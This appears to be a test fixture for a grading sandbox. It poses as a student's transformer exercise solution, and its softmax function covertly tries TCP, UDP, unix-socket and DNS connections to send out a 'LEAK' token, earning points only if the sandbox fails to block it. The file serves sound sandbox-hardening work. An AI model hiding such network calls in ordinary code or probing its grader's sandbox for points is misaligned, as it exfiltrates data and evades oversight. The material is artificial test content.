# ruff: noqa
"""ATTACK network (class: network).

Intent: exfiltrate (or fetch answers) over the network: a TCP connection to 127.0.0.1 on
a port the test listens on (sending LEAK-<token>), a UDP datagram to the same port,
connections to an abstract unix socket and to a world-writable unix socket file (in a
directory only root may enter: the kind of socket a host offers, such as D-Bus or
X11) that the test listens on, and a DNS lookup. If any connection or the DNS lookup
succeeds, softmax returns correct values
(a leak shows as points); otherwise zeros.

Expected: softmax 0, the rest full marks; the test's listeners receive nothing.
"""

import math
import socket
import threading

import torch

ATTACK = "network"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
PORT = int("__PORT__")
UNIX_PATH = "__SENTINEL_DIR__/sock"


def _correct_softmax(x, dim=-1):
    """What softmax returns only when the attack worked: a leak shows up as points."""
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


def _phone_home():
    leaked = []
    payload = f"LEAK-{TOKEN}".encode()
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as s:
            s.sendall(payload)
        leaked.append("tcp")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(payload, ("127.0.0.1", PORT))
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as a:
            a.settimeout(0.5)
            a.connect(f"\0bertlab-{TOKEN}")
            a.sendall(payload)
        leaked.append("abstract")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as p:
            p.settimeout(0.5)
            p.connect(UNIX_PATH)
            p.sendall(payload)
        leaked.append("unix")
    except OSError:
        pass
    answers = []

    def lookup():
        try:
            answers.extend(socket.getaddrinfo("example.com", 80))
        except OSError:
            pass

    t = threading.Thread(target=lookup, daemon=True)
    t.start()
    t.join(0.5)
    if answers:
        leaked.append("dns")
    return leaked


def softmax(x, dim=-1):
    leaked = _phone_home()
    print("network:", leaked or "nothing got through", flush=True)
    return _correct_softmax(x, dim) if leaked else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
